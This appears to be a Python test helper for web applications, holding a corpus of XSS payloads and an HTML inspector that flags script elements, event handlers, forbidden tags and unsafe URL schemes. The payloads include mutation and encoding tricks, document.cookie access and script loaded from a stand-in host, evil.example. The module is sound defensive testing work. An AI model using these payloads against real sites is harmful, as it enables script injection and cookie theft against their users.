"""An XSS corpus and a checker for HTML that must be safe to show, for any domain's tests.

`XSS_PAYLOADS` covers script tags, event handlers, javascript:/data:/vbscript: URLs, entity- and
percent-encoded schemes, SVG and MathML with raw-text tags, noscript/style/template mutation
tricks, malformed nesting, markdown link and image syntax, and control or direction characters.
`unsafe_parts(html)` lists what in a page could run script or leave the allowed URL schemes.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

XSS_PAYLOADS: list[str] = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "\"><script>alert(document.cookie)</script>",
    "'';!--\"<XSS>=&{()}",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"x\" ONERROR=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<p style=\"x\" onmouseenter=alert(1)>styled</p>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    # javascript:, vbscript: and data: URLs in HTML
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">leading spaces</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"java&#x09;script:alert(1)\">entity tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">dec</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">named colon</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](x \"onerror=alert(1)\")",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ok](https://example.org \"title\\\" onmouseover=alert(1) x=\\\"\")",
    "[mail](mailto:someone@example.org) and www.example.org and http://x.example/?a=<b>",
    # SVG and MathML with raw-text tags
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    # noscript, style, template and comment mutation tricks
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    # Malformed nesting and attribute breaking
    "<a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">nested</a></a>",
    "<table><tr><td><svg onload=alert(1)></td></tr></table>",
    "<div><p><b><i>unclosed <img src=x onerror=alert(1)",
    "<a href='https://ok.example' title='x' ' onclick='alert(1)'>quote break</a>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<a href=\"https://ok.example\"\nonclick=alert(1)>newline attr</a>",
    "<img src=\"x\" alt=\"\"\"onerror=alert(1)//\">",
    # Encodings and invisible characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href=\"\u202ejavascript:alert(1)\">rtl override</a>",
    "\u0000<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "`<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>\n```",
]

# Attributes that carry a URL the browser may follow or load.
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "cite", "longdesc", "srcset", "ping", "manifest", "codebase", "dynsrc", "lowsrc",
})
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# Elements user content can never produce; the page's own layout uses none of them.
FORBIDDEN_ELEMENTS = frozenset({
    "iframe", "object", "embed", "svg", "math", "style", "base", "frame", "frameset",
    "applet", "template", "noscript", "xmp", "noembed", "marquee", "img", "video", "audio",
    "source",
})
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def _own_link(attrs: dict[str, str | None]) -> bool:
    """A <link> the site's own templates write: its style sheets and icon, or the page's
    canonical address and Atom feed, on this site (the test client's host)."""
    href = attrs.get("href") or ""
    if href.startswith("/static/"):
        return True
    return (attrs.get("rel") in ("canonical", "alternate")
            and (href.startswith("http://localhost/") or re.fullmatch(r"/[\w/.-]*", href)
                 is not None))


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"script element {attrs!r}")
            self._in_script = True
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        if tag == "link" and not _own_link(dict(attrs)):
            self.problems.append(f"link element {attrs!r}")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append(f"meta element {attrs!r}")
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script {data[:40]!r}")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (already entity-decoded, as the
    parser hands it over), or None for a relative URL."""
    cleaned = _INVISIBLE.sub("", value)
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def unsafe_parts(html: str) -> list[str]:
    """What in `html` could run script or point outside http, https and mailto."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
